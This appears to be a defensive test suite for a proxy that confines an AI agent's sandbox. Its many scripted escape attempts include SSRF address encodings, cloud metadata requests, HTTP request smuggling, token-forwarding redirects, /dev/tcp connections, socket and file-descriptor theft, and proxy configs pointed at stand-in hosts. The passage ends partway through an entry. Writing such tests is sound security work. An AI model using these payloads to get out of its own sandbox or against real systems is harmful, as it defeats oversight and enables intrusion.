/**
 * Attempts from inside a session that has a way out: to hosts that its rules do not name, by requests that two servers could
 * read in two ways, by another session's socket, and after the secrets that the proxy has.
 */
import { assert } from "@effect/vitest"
import * as Sandbox from "effect-claw/services/Sandbox"
import * as Effect from "effect/Effect"
import { gzipSync } from "node:zlib"
import { type Attempt, group, type Place, real, type Seen } from "./Attempt.ts"
import type { World } from "./World.ts"

type Attempted = Omit<Attempt, "group">

const says = (pattern: RegExp) => (seen: Seen) => assert.match(seen.stdout, pattern)
const allSay = (pattern: RegExp) => (seen: Seen) => {
  const said = seen.stdout.trim().split("\n")
  assert.deepStrictEqual(
    said.filter((line) => !pattern.test(line)),
    []
  )
}

/** The status that curl is answered with for each address, `000` for none. */
const curl = (addresses: ReadonlyArray<string>, options = ""): string =>
  addresses
    .map((address) => `curl -sS -m 3 -o /dev/null -w '%{http_code} %{http_connect}\\n' ${options} '${address}'`)
    .join("\n")

/**
 * Sends messages to the proxy as their bytes are, each by a connection of its own, and tells how each was answered: the
 * status of every answer. `parts` of one message are sent apart.
 */
const sent = (...messages: ReadonlyArray<string | ReadonlyArray<string>>): string => `python3 - <<'PY'
import base64, re, socket, time
from concurrent.futures import ThreadPoolExecutor
def sent(parts):
    got = b''
    try:
        s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(1)
        for part in parts:
            s.sendall(base64.b64decode(part)); time.sleep(0.05)
        while True:
            more = s.recv(65536)
            if not more: break
            got += more
    except OSError: pass
    return got.decode('latin1')
messages = ${JSON.stringify(messages.map((parts) => [parts].flat().map((part) => Buffer.from(part, "latin1").toString("base64"))))}
with ThreadPoolExecutor(16) as pool:
    for answer in pool.map(sent, messages):
        print('answered ' + (' '.join(re.findall(r'^HTTP/1.1 (\\d+)', answer, re.M)) or 'by nothing'))
PY`

/** The same within TLS to the host that is admitted with a secret, where the proxy reads. */
const sentInside = ({ securePort }: World["internet"], name: string, ...messages: ReadonlyArray<string>): string =>
  `python3 - <<'PY'
import base64, re, socket, ssl
for message in ${JSON.stringify(messages.map((message) => Buffer.from(message, "latin1").toString("base64")))}:
    got = b''
    try:
        s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(1)
        s.sendall(b'CONNECT allowed.test:${securePort} HTTP/1.1\\r\\nhost: allowed.test\\r\\n\\r\\n')
        if b' 200 ' not in s.recv(65536): raise OSError('no tunnel')
        context = ssl.create_default_context(cafile='/run/claw/authorities.pem')
        context.check_hostname = False
        secure = context.wrap_socket(s, server_hostname='${name}')
        secure.sendall(base64.b64decode(message))
        while True:
            more = secure.recv(65536)
            if not more: break
            got += more
    except OSError as e:
        if not got: print('refused: ' + type(e).__name__.lower())
    print('answered ' + (' '.join(re.findall(r'^HTTP/1.1 (\\d+)', got.decode('latin1'), re.M)) or 'by nothing'))
PY`

const connectTo = (authority: string, rest = "") => `CONNECT ${authority} HTTP/1.1\r\nhost: ${authority}\r\n\r\n${rest}`
const get = (address: string, headers = "host: a\r\n") =>
  `GET ${address} HTTP/1.1\r\n${headers}connection: close\r\n\r\n`

const plain = ({ port }: World["internet"], host = "allowed.test") => `http://${host}:${port}`
const secure = ({ securePort }: World["internet"], host = "allowed.test") => `https://${host}:${securePort}`

/** Each host by a request and by a tunnel. */
const asked = ({ port }: World["internet"], ...hosts: ReadonlyArray<string>): string =>
  sent(...hosts.flatMap((host) => [get(`http://${host}:${port}/`), connectTo(`${host}:${port}`)]))

const inSession = (attempts: ReadonlyArray<Attempted>): ReadonlyArray<Attempted> =>
  attempts.map((attempt) => ({ ...attempt, wayOut: true }))

const refused = allSay(/^answered (?:4\d\d|50[13])$/)

const hosts = group(
  "The way out: other hosts",
  inSession([
    {
      name: "a host that no rule names",
      container: ({ world: { internet } }) =>
        curl([`${plain(internet, "evil.test")}/`, `${secure(internet, "evil.test")}/`], "-k"),
      holds: allSay(/^(?:403 000|000 403)$/)
    },
    {
      name: "past the proxy, by its address",
      container: ({ world: { internet } }) =>
        `${curl([`http://127.0.0.3:${internet.port}/`], "--noproxy '*'")}; exec 3<>/dev/tcp/127.0.0.3/${internet.port}; cat <&3`,
      onHost: true
    },
    {
      name: "past the proxy, by what the environment says",
      container: ({ world: { internet } }) =>
        `unset http_proxy HTTP_PROXY; export NO_PROXY='*' no_proxy='*'
${curl([`http://127.0.0.3:${internet.port}/`, `http://evil.test:${internet.port}/`])}
python3 -c "import urllib.request as r; r.build_opener(r.ProxyHandler({})).open('http://127.0.0.3:${internet.port}/')" 2>&1 | tail -1`,
      onHost: true
    },
    {
      name: "an address, as it may be written",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "127.0.0.3",
          "2130706435",
          "0x7f000003",
          "0x7f.3",
          "0177.0.0.03",
          "127.3",
          "127.0.3",
          "127.000.000.003"
        ),
      holds: refused
    },
    {
      name: "an address, as IPv6 has it",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "[::ffff:127.0.0.3]",
          "[::ffff:7f00:3]",
          "[::127.0.0.3]",
          "[64:ff9b::127.0.0.3]",
          "[2002:7f00:3::]",
          "[::1%25lo]"
        ),
      holds: refused
    },
    {
      name: "a name in capitals, with a dot at its end, with letters that look alike",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "EVIL.TEST",
          "evil.test.",
          "evil.test..",
          "evil%2etest",
          "evil\u3002test",
          "\xc3\xa9vil.test",
          "evil\uff0etest"
        ),
      holds: refused
    },
    {
      name: "a name that begins or ends like one that is admitted",
      container: ({ world: { internet } }) =>
        asked(
          internet,
          "allowed.test.evil.test",
          "evilallowed.test",
          "x.allowed.test",
          "evil.test\0.wild.test",
          "evil.test%00.wild.test",
          "allowed.test\0.evil.test",
          "allowed.test%00.evil.test",
          "allowed.test%2eevil.test",
          "evil.test%23.wild.test",
          "evil.test%2f.wild.test",
          "wild.test",
          "evilwild.test"
        ),
      holds: refused
    },
    {
      name: "a user that looks like a host, and other addresses that are read in two ways",
      container: ({ world: { internet } }) =>
        sent(
          ...[
            "http://allowed.test@evil.test:PORT/",
            "http://allowed.test:PORT@evil.test:PORT/",
            "http://allowed.test:PORT#@evil.test:PORT/",
            "http://evil.test:PORT\\@allowed.test:PORT/",
            "http://evil.test:PORT#@allowed.test:PORT/",
            "http://evil.test:PORT?@allowed.test:PORT/",
            "http://allowed.test;@evil.test:PORT/",
            "http:evil.test:PORT/",
            "http:////evil.test:PORT/",
            "http:\\\\evil.test:PORT/",
            "HTTP://EVIL.TEST:PORT/",
            "//evil.test:PORT/",
            "http://[evil.test]:PORT/"
          ].map((address) => get(address.replaceAll("PORT", String(internet.port)))),
          ...[
            "allowed.test@evil.test:PORT",
            "allowed.test:PORT@evil.test:PORT",
            "evil.test:PORT#allowed.test:PORT",
            "evil.test:PORT/allowed.test:PORT",
            "allowed.test:PORT,evil.test:PORT",
            "http://evil.test:PORT"
          ].map((authority) => connectTo(authority.replaceAll("PORT", String(internet.port))))
        ),
      holds: allSay(/^answered (?:40[03]|by nothing)$/)
    },
    {
      name: "the one host in the address, the other in the header",
      container: ({ world: { internet } }) =>
        sent(
          get(`${plain(internet)}/`, `host: evil.test:${internet.port}\r\n`),
          get(`${plain(internet)}/`, `host: allowed.test\r\nx-forwarded-host: evil.test:${internet.port}\r\n`)
        ),
      holds: allSay(/^answered 200$/)
    },
    {
      name: "the other host in the header alone, and two headers",
      container: ({ world: { internet } }) =>
        sent(
          get("/", `host: evil.test:${internet.port}\r\n`),
          get("/", `host: allowed.test:${internet.port}\r\n`),
          get(`${plain(internet, "evil.test")}/`, `host: allowed.test:${internet.port}\r\n`),
          get(`${plain(internet, "evil.test")}/`, `host: allowed.test\r\nhost: evil.test\r\n`)
        ),
      holds: refused
    },
    {
      name: "other places for the hosts of a client",
      container: ({ world: { internet } }) => {
        const { port, securePort } = internet
        return [
          curl([`${secure(internet)}/`], `-k --connect-to allowed.test:${securePort}:evil.test:${securePort}`),
          curl([`${plain(internet, "evil.test")}/`], `-p --connect-to evil.test:${port}:127.0.0.3:${port}`),
          curl([`${secure(internet, "evil.test")}/`], `-k --resolve evil.test:${securePort}:127.0.0.2`)
        ].join("\n")
      },
      holds: allSay(/^000 403$/)
    },
    {
      name: "a cloud's metadata",
      container: sent(
        ...[
          "169.254.169.254",
          "2852039166",
          "0xa9fea9fe",
          "0251.0376.0251.0376",
          "[::ffff:169.254.169.254]",
          "[fd00:ec2::254]",
          "100.100.100.200"
        ].flatMap((host) => [get(`http://${host}/latest/meta-data/`), connectTo(`${host}:80`)]),
        get("http://metadata.google.internal/computeMetadata/v1/", "host: a\r\nmetadata-flavor: Google\r\n"),
        get("http://metadata.inward.test/latest/meta-data/"),
        get("http://metadata6.inward.test/latest/meta-data/"),
        connectTo("metadata.inward.test:80")
      ),
      holds: allSay(/^answered 403$/)
    },
    {
      name: "the host's loopback, by its names and addresses",
      container: ({ world: { address, anyPort, loopback6Port, loopbackPort } }) =>
        sent(
          ...[
            "127.0.0.1",
            "localhost",
            "LOCALHOST.",
            "2130706433",
            "127.1",
            "0",
            "0.0.0.0",
            "[::1]",
            "[::]",
            "[::ffff:127.0.0.1]",
            address,
            "172.17.0.1",
            "host.docker.internal"
          ].flatMap((host) => [
            ...[loopbackPort, loopback6Port, anyPort].map((port) => connectTo(`${host}:${port}`)),
            get(`http://${host}:${anyPort}/`)
          ])
        ),
      holds: allSay(/^answered 403$/)
    },
    {
      name: "a name that a rule admits and that leads to this machine",
      container: ({ world: { anyPort, loopback6Port, loopbackPort } }) =>
        sent(
          ...[
            "loopback",
            "six",
            "mapped",
            "translated",
            "any",
            "any6",
            "machine",
            "bridge",
            "home",
            "both",
            "odd"
          ].flatMap((name) => [
            ...[loopbackPort, loopback6Port, anyPort].map((port) => connectTo(`${name}.inward.test:${port}`)),
            get(`http://${name}.inward.test:${anyPort}/`)
          ])
        ),
      holds: allSay(/^answered 403$/)
    },
    {
      name: "a name that leads elsewhere when it is asked again",
      container: ({ world: { internet, loopbackPort } }) =>
        Array.from({ length: 4 }, () =>
          sent(
            get(`http://rebinds.test:${internet.port}/`),
            connectTo(`rebinds.test:${loopbackPort}`),
            connectTo(`rebinds.test:${loopbackPort}`)
          )
        ).join("\n"),
      holds: (seen) => {
        assert.include(seen.stdout, "answered 200")
        assert.include(seen.stdout, "answered 403")
      }
    },
    {
      name: "a redirect, followed with all that was sent",
      container: ({ world: { internet, loopbackPort } }) =>
        [
          `http://127.0.0.1:${loopbackPort}/`,
          `${plain(internet, "evil.test")}/`,
          `${secure(internet, "evil.test")}/`,
          "http://169.254.169.254/",
          `file:///proc/1/environ`,
          `gopher://127.0.0.1:${loopbackPort}/_x`
        ]
          .map(
            (to) =>
              `curl -sSLk -m 3 --location-trusted --proto-redir all -H "authorization: Bearer $TOKEN" '${plain(internet)}/redirect?to=${to}'`
          )
          .join("\n"),
      holds: says(/no rule of this agent admits/)
    },
    {
      name: "a redirect to another host that is admitted",
      container: ({ world: { internet } }) =>
        `curl -sSL -m 3 --location-trusted -H "authorization: Bearer $TOKEN" '${plain(internet)}/redirect?to=${plain(internet, "open.test")}/echo'`,
      holds: says(/claw_secret_TOKEN/)
    },
    {
      name: "other ports of a host that is admitted",
      container: ({ world: { anyPort, internet } }) =>
        sent(
          ...[22, 25, 53, 445, 2375, 3128, 6379, anyPort].map((port) => connectTo(`allowed.test:${port}`)),
          get(`http://allowed.test:${anyPort}/`),
          get(`http://allowed.test/`),
          ...[`${internet.port + 65536}`, "0", "-1", `${internet.port}:25`, ` ${internet.port}`, "", "1e3", "0x50"].map(
            (port) => connectTo(`allowed.test:${port}`)
          )
        ),
      holds: refused
    },
    {
      name: "names asked of other resolvers",
      container: ({ world: { datagramPort } }) => `${sent(
        ...["8.8.8.8:53", "1.1.1.1:853", "dns.google:443", "127.0.0.53:53", "127.0.0.11:53"].map((to) =>
          connectTo(to, "\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04evil\x04test\0\0\x01\0\x01")
        ),
        get("http://1.1.1.1/dns-query?name=evil.test")
      )}
getent hosts secret.evil.test; echo x > /dev/udp/127.0.0.1/${datagramPort}; echo x > /dev/udp/127.0.0.11/53`,
      holds: (seen) => assert.notMatch(seen.stdout, /answered 200/)
    },
    {
      name: "files and sockets of the host, as addresses",
      container: ({ world: { secret, socketPath } }) =>
        sent(
          get(`file://${secret}`),
          get(`file://localhost${secret}`),
          get(`http://unix:${socketPath}:/`),
          get(`unix:${socketPath}`),
          get(`ftp://allowed.test/`),
          get("data:text/plain,x"),
          get("javascript:1"),
          connectTo(socketPath)
        ),
      holds: refused
    },
    {
      name: "the proxy itself, and other ways to ask it",
      container: ({ world: { internet } }) => `${sent(
        connectTo("127.0.0.1:3128", connectTo(`evil.test:${internet.port}`)),
        get("http://127.0.0.1:3128/"),
        "\x05\x01\0",
        `\x04\x01${String.fromCharCode(internet.port >> 8, internet.port & 255)}\x7f\0\0\x03\0`,
        "PROXY TCP4 127.0.0.1 127.0.0.3 1 2\r\n" + get(`${plain(internet)}/`),
        "\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
        "SSH-2.0-x\r\n",
        "EHLO evil.test\r\n"
      )}
curl -sS -m 3 --socks5-hostname 127.0.0.1:3128 ${plain(internet, "evil.test")}/; curl -sS -m 3 --socks4a 127.0.0.1:3128 ${plain(internet, "evil.test")}/`,
      holds: (seen) => assert.notMatch(seen.stdout, /answered 200/)
    },
    {
      name: "configuration that names other proxies and registries",
      container: ({ world: { internet } }) => {
        const evil = `http://127.0.0.3:${internet.port}`
        return `mkdir -p ~/.config/pip ~/.pip r && cd r
printf 'proxy = ${evil}\\nlocation\\n' > ~/.curlrc
printf '[http]\\n\\tproxy = ${evil}\\n\\tsslVerify = false\\n[url "${evil}/"]\\n\\tinsteadOf = ${plain(internet)}/\\n[core]\\n\\tgitProxy = ${evil}\\n' > ~/.gitconfig
printf '[global]\\nindex-url = ${evil}/simple\\nproxy = ${evil}\\ntrusted-host = 127.0.0.3\\n' | tee ~/.config/pip/pip.conf > ~/.pip/pip.conf
printf 'registry=${evil}/\\nproxy=${evil}\\nhttps-proxy=${evil}\\nstrict-ssl=false\\n' | tee .npmrc > ~/.npmrc
curl -sS -m 3 ${plain(internet)}/
git clone -q ${plain(internet)}/repo.git
env -u HTTP_PROXY -u http_proxy git clone -q git://127.0.0.3:${internet.port}/repo.git
if type npm > /dev/null 2>&1; then timeout 5 npm view greeting; fi
if python3 -m pip --version > /dev/null 2>&1; then timeout 5 python3 -m pip download --retries 0 greeting; fi
http_proxy=${evil} HTTPS_PROXY=${evil} curl -q -sS -m 3 ${plain(internet)}/`
      },
      onHost: true
    }
  ])
)

const smuggled = ({ port }: World["internet"], host = "allowed.test") =>
  `GET http://${host}:${port}/smuggled HTTP/1.1\r\nhost: ${host}:${port}\r\n\r\n`

/** A request with a body and these headers, which may hold another. */
const post = (internet: World["internet"], headers: string, body: string) =>
  `POST ${plain(internet)}/echo HTTP/1.1\r\nhost: allowed.test:${internet.port}\r\n${headers}\r\n\r\n${body}`

/** What a server that reads it otherwise would take for a request of its own. */
const inner = "GET /smuggled HTTP/1.1\r\nhost: allowed.test\r\n\r\n"

const requests = group(
  "The way out: requests that are read in two ways",
  inSession([
    {
      name: "bytes behind a CONNECT",
      container: ({ world: { internet } }) =>
        sent(
          connectTo(`evil.test:${internet.port}`, get(`${plain(internet, "evil.test")}/`)),
          [connectTo(`evil.test:${internet.port}`), get("/")],
          `CONNECT evil.test:${internet.port} HTTP/1.1\r\nhost: allowed.test:${internet.port}\r\ncontent-length: 5\r\n\r\nhello`,
          `CONNECT evil.test:${internet.port} HTTP/1.0\r\n\r\n`
        ),
      holds: refused
    },
    {
      name: "a CONNECT to a host that is read, and another behind it",
      container: ({ world: { internet } }) =>
        sent(
          connectTo(`allowed.test:${internet.securePort}`, connectTo(`evil.test:${internet.port}`)),
          connectTo(`allowed.test:${internet.securePort}`, get(`${plain(internet, "evil.test")}/`)),
          connectTo(`allowed.test:${internet.securePort}`, "\x16\x03\x01 nonsense"),
          connectTo(`allowed.test:${internet.port}`, "GET /smuggled HTTP/1.1\r\nhost: allowed.test\r\n\r\n")
        ),
      holds: (seen) => assert.notMatch(seen.stdout, /200 200/)
    },
    {
      name: "two requests in one packet, the second to another host",
      container: ({ world: { internet } }) =>
        sent(
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\n\r\n${get(`${plain(internet, "evil.test")}/`)}`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\n\r\n${connectTo(`evil.test:${internet.port}`)}`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\n\r\n${connectTo(`127.0.0.1:${internet.port}`)}`
        ),
      holds: allSay(/^answered (?:200 403|403)$/)
    },
    {
      name: "a length and chunks",
      container: ({ world: { internet } }) =>
        sent(
          post(internet, "content-length: 4\r\ntransfer-encoding: chunked", `0\r\n\r\n${inner}`),
          post(internet, "transfer-encoding: chunked\r\ncontent-length: 4", `0\r\n\r\n${inner}`),
          post(internet, `content-length: ${inner.length + 5}\r\ntransfer-encoding: chunked`, `0\r\n\r\n${inner}`)
        ),
      holds: refused
    },
    {
      name: "two lengths, and lengths that are none",
      container: ({ world: { internet } }) =>
        sent(
          ...[
            "content-length: 0\r\ncontent-length: 99",
            "content-length: 0, 99",
            "content-length: +5",
            "content-length: -1",
            "content-length: 0x5",
            "content-length: 5 5",
            "content-length:\t\x0b5",
            "content-length: 99999999999999999999",
            "content-length : 5",
            " content-length: 5"
          ].map((headers) => post(internet, headers, inner))
        ),
      holds: allSay(/^answered (?:400|by nothing)$/)
    },
    {
      name: "chunks under other names",
      container: ({ world: { internet } }) =>
        sent(
          ...[
            "xchunked",
            "chunked, identity",
            "identity, chunked",
            "chunked, chunked",
            "\x0bchunked",
            "\tchunked\x0c",
            "chun\0ked",
            '"chunked"',
            "chunked;q=0",
            "x\r\n chunked",
            "gzip"
          ].map((encoding) => post(internet, `transfer-encoding: ${encoding}`, `0\r\n\r\n${inner}`)),
          post(internet, "transfer_encoding: chunked\r\ncontent-length: 0", ""),
          post(internet, "transfer-encoding : chunked", `0\r\n\r\n${inner}`),
          post(internet, "transfer-encoding\r\n : chunked", `0\r\n\r\n${inner}`)
        ),
      holds: (seen) => assert.notMatch(seen.stdout, /200 200/)
    },
    {
      name: "chunks whose sizes are none",
      container: ({ world: { internet } }) =>
        sent(
          ...[
            "0x0\r\n\r\n",
            "-1\r\n\r\n",
            "+0\r\n\r\n",
            "00000000000000000\r\n\r\n",
            "ffffffffffffffffff\r\nx\r\n0\r\n\r\n",
            "0\n\n",
            "0;a=\n\r\n\r\n",
            '0;a="\r\n\r\n',
            "0\r\rX\r\n",
            "3\r\nabcX\r\n0\r\n\r\n",
            "1\r\na\n0\r\n\r\n"
          ].map((chunks) => post(internet, "transfer-encoding: chunked", chunks + inner))
        ),
      holds: (seen) => assert.notMatch(seen.stdout, /200 200/)
    },
    {
      name: "lines that end with half of their end",
      container: ({ world: { internet } }) =>
        sent(
          `GET ${plain(internet)}/ HTTP/1.1\nhost: a\n\n`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nx: a\n\n${smuggled(internet)}`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nx: a\rhost: evil.test\r\n\r\n`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nx: a\r\r\n\r\n`,
          `GET ${plain(internet)}/\rx HTTP/1.1\r\nhost: a\r\n\r\n`
        ),
      holds: refused
    },
    {
      name: "lines that go on, and a header before the first",
      container: ({ world: { internet } }) =>
        sent(
          `GET ${plain(internet)}/ HTTP/1.1\r\n host: evil.test\r\n\r\n`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nx: a\r\n host: evil.test\r\n\r\n`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nx: a\r\n\tcontent-length: 50\r\n\r\n`
        ),
      holds: refused
    },
    {
      name: "a byte that is none in an address and in headers",
      container: ({ world: { internet } }) =>
        sent(
          get(`${plain(internet)}/\0smuggled`),
          get(`${plain(internet)}/`, "host: a\r\nx: a\0b\r\n"),
          get(`${plain(internet)}/`, "host: a\r\nx\0: b\r\n"),
          get(`${plain(internet)}/`, "host: a\r\n: b\r\n"),
          get(`${plain(internet)}/`, "host: a\r\nx y: b\r\n"),
          `GET\0 ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\n\r\n`
        ),
      holds: refused
    },
    {
      name: "line ends in an address",
      container: ({ world: { internet } }) =>
        sent(
          get(`${plain(internet)}/%0d%0ahost:%20evil.test%0d%0a%0d%0aGET%20/x`),
          get(`${plain(internet)}/?a=%0d%0a%0d%0aGET%20/x%20HTTP/1.1`),
          get(`${plain(internet)}/\u010d\u010aGET`)
        ),
      holds: (seen) => assert.notMatch(seen.stdout, /200 200/)
    },
    {
      name: "first lines that are none",
      container: ({ world: { internet } }) =>
        sent(
          `GET ${plain(internet)}/\r\n`,
          `GET ${plain(internet)}/ HTTP/1.1 HTTP/1.1\r\nhost: a\r\n\r\n`,
          `GET ${plain(internet)}/ http/1.1\r\nhost: a\r\n\r\n`,
          `GET ${plain(internet)}/ HTTP/3.7\r\nhost: a\r\n\r\n`,
          `SMUGGLE ${plain(internet)}/smuggled HTTP/1.1\r\nhost: a\r\n\r\n`,
          `get ${plain(internet)}/smuggled HTTP/1.1\r\nhost: a\r\n\r\n`
        ),
      holds: allSay(/^answered (?:400|by nothing)$/)
    },
    {
      name: "headers without end, and without number",
      container: ({ world: { internet } }) =>
        sent(
          get(`${plain(internet)}/`, `host: a\r\nx: ${"a".repeat(20_000)}\r\n`),
          get(
            `${plain(internet)}/`,
            `host: a\r\n${Array.from({ length: 1500 }, (_, index) => `x${index}: a\r\n`).join("")}`
          ),
          get(`${plain(internet)}/${"a".repeat(20_000)}`),
          connectTo(`${"a".repeat(20_000)}:443`)
        ),
      holds: allSay(/^answered (?:400|431|by nothing)$/)
    },
    {
      name: "headers that name headers of the proxy's own",
      container: ({ world: { internet } }) =>
        sent(
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nconnection: host, close\r\n\r\n`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nconnection: close, authorization, content-length\r\ncontent-length: ${inner.length}\r\n\r\n${inner}`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\n${"a:\r\n".repeat(1100)}content-length: ${inner.length}\r\n\r\n${inner}`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\ntrailer: host\r\ntransfer-encoding: chunked\r\n\r\n0\r\nhost: evil.test\r\n\r\n`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nexpect: 100-continue\r\nconnection: close\r\ncontent-length: ${inner.length}\r\n\r\n${inner}`
        ),
      holds: (seen) => assert.notMatch(seen.stdout, /200 200/)
    },
    {
      name: "a request in a request's body",
      container: ({ world: { internet } }) =>
        sent(
          post(internet, `connection: close\r\ncontent-length: ${inner.length}`, inner),
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-length: ${inner.length}\r\n\r\n${inner}`,
          `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`
        ),
      holds: allSay(/^answered 200$/)
    },
    {
      name: "other protocols behind an upgrade",
      container: ({ world: { internet } }) =>
        sent(
          ...["websocket", "h2c", "TLS/1.2", "connect"].map((protocol) => [
            `GET ${plain(internet)}/ HTTP/1.1\r\nhost: a\r\nupgrade: ${protocol}\r\nconnection: upgrade, http2-settings\r\nhttp2-settings: AAMAAABkAAQAAP__\r\nsec-websocket-key: eA==\r\n\r\n`,
            smuggled(internet, "evil.test")
          ]),
          `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0`
        ),
      holds: refused
    },
    {
      name: "HTTP/2 where TLS ends at the proxy",
      container: ({ world: { internet } }) =>
        `curl -sS -m 3 --http2-prior-knowledge -o /dev/null -w '%{http_version} %{http_code}\\n' ${secure(internet)}/; curl -sS -m 3 --http2 ${secure(internet)}/; echo`,
      holds: (seen) => assert.notMatch(seen.stdout, /^2 200/m)
    },
    {
      name: "another host where TLS ends at the proxy, by its header, its address and the name that TLS is for",
      container: ({ world: { internet } }) =>
        sentInside(
          internet,
          "evil.test",
          get("/", `host: evil.test:${internet.securePort}\r\n`),
          get(`${secure(internet, "evil.test")}/`, `host: allowed.test:${internet.securePort}\r\n`),
          get("/", `host: allowed.test:${internet.securePort}@evil.test\r\n`),
          get(`//evil.test:${internet.securePort}/`, `host: evil.test\r\n`),
          get("@evil.test/", `host: allowed.test:${internet.securePort}\r\n`),
          get("*", `host: allowed.test:${internet.securePort}\r\n`),
          get("/", "")
        ),
      holds: refused
    },
    {
      name: "a tunnel in a tunnel, and smuggling in it",
      container: ({ world: { internet } }) =>
        sentInside(
          internet,
          "allowed.test",
          connectTo(`evil.test:${internet.port}`),
          connectTo(`127.0.0.1:${internet.port}`),
          `POST /echo HTTP/1.1\r\nhost: allowed.test:${internet.securePort}\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
          `GET / HTTP/1.1\r\nhost: allowed.test:${internet.securePort}\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n${inner}`,
          `GET / HTTP/1.1\nhost: allowed.test:${internet.securePort}\n\n`
        ),
      holds: (seen) => assert.notMatch(seen.stdout, /answered 200/)
    },
    {
      name: "paths and methods that a rule does not admit",
      container: ({ world: { internet } }) => {
        const base = plain(internet, "strict.test")
        return sent(
          ...[
            "/",
            "/okay",
            "/OK",
            "/ok/../x",
            "/ok/%2e%2e/x",
            "/ok/..%2fx",
            "/ok/..%5cx",
            "/ok/..\\x",
            "/ok/.%2e/x",
            "/ok%2f..%2fx",
            "//x/ok",
            "/%6fk/../x",
            "/ok;/../../x",
            "/ok/%252e%252e/../../x",
            "/x?/ok",
            "/x#/ok"
          ].map((path) => get(`${base}${path}`)),
          ...["POST", "PUT", "DELETE", "PROPFIND", "PURGE", "TRACE"].map(
            (method) => `${method} ${base}/ok HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-length: 0\r\n\r\n`
          )
        )
      },
      holds: refused
    },
    {
      name: "a tunnel around a rule's paths",
      container: ({ world: { internet } }) =>
        `${curl([`${secure(internet, "strict.test")}/x`, `${secure(internet, "strict.test")}/ok/%2e%2e/x`], "--path-as-is")}; ${curl([`${secure(internet, "strict.test")}/ok`], "-X DELETE")}`,
      holds: allSay(/^403 200$/)
    }
  ])
)

const proxySocket = "/run/claw/proxy.sock"

const sockets = group(
  "The way out: sockets",
  inSession([
    {
      name: "another session's socket, by the host's path",
      container: ({ neighbour, world: { internet } }: Place) =>
        `ls ${neighbour.way?.folder}; curl -sS -m 3 --unix-socket ${neighbour.way?.folder}/proxy.sock -x '' ${plain(internet, "neighbour.test")}/x; ls ${neighbour.way?.folder}/../*`
    },
    {
      name: "another session's socket, by guesses and by a search",
      container: ({ world: { internet } }) =>
        `for s in $(find / -xdev -type s 2>/dev/null; find / -name '*.sock' -not -path '${proxySocket}' 2>/dev/null) /run/claw/../*/proxy.sock /run/claw/../../*/*/proxy.sock /proc/[0-9]*/root${proxySocket} /proc/[0-9]*/cwd/../run/claw/proxy.sock; do curl -sS -m 1 --unix-socket $s -H 'host: neighbour.test' ${plain(internet, "neighbour.test")}/x; done; ls /run/claw`,
      holds: says(/^authorities\.pem\nproxy\.sock\n$/m)
    },
    {
      name: "a host of another session, by this one's socket",
      container: ({ world: { internet } }) => asked(internet, "neighbour.test"),
      holds: refused
    },
    {
      name: "descriptors of other processes",
      container: ({ world: { internet } }) =>
        `ls -l /proc/[0-9]*/fd | grep -c socket; for f in /proc/[0-9]*/fd/{3..40}; do printf 'GET ${plain(internet, "neighbour.test")}/x HTTP/1.1\\r\\n\\r\\n' > $f; done 2>/dev/null; python3 - <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    fd = libc.syscall(434, pid, 0)
    for n in range(12):
        if fd >= 0 and pid != os.getpid() and libc.syscall(438, fd, n, 0) >= 0: print('took descriptor', n, 'of', pid)
print(os.strerror(ctypes.get_errno()).lower())
PY`
    },
    {
      name: "sockets without a path, of every name that the kernel tells",
      container: ({ world: { abstractName } }) => `python3 - <<'PY'
import socket
names = {line.split()[-1] for line in open('/proc/net/unix').read().splitlines()[1:] if '/' in line or '@' in line}
for name in names | {'@${abstractName}', '@/run/claw/proxy.sock', '/run/docker.sock', '/run/containerd/containerd.sock'}:
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(name.replace('@', '\\0', 1)); print('own socket' if name == '${proxySocket}' else 'connected to ' + name)
    except OSError as e: print(e.strerror.lower())
PY`,
      holds: (seen) => assert.notMatch(seen.stdout, /connected to/)
    },
    {
      name: "another in its own socket's place",
      container: ({ neighbour }: Place) =>
        `rm -f ${proxySocket}; mv ${proxySocket} /tmp/p; ln -sf ${neighbour.way?.folder}/proxy.sock ${proxySocket}; ln ${proxySocket} /workspace/p; ln ${proxySocket} /tmp/p; mount --bind /tmp /run/claw; chmod 000 ${proxySocket}; chown 0:0 ${proxySocket}; touch /run/claw/x`
    },
    {
      name: "its own socket, carried out by the workspace",
      container: ({ neighbour, world: { internet } }: Place) =>
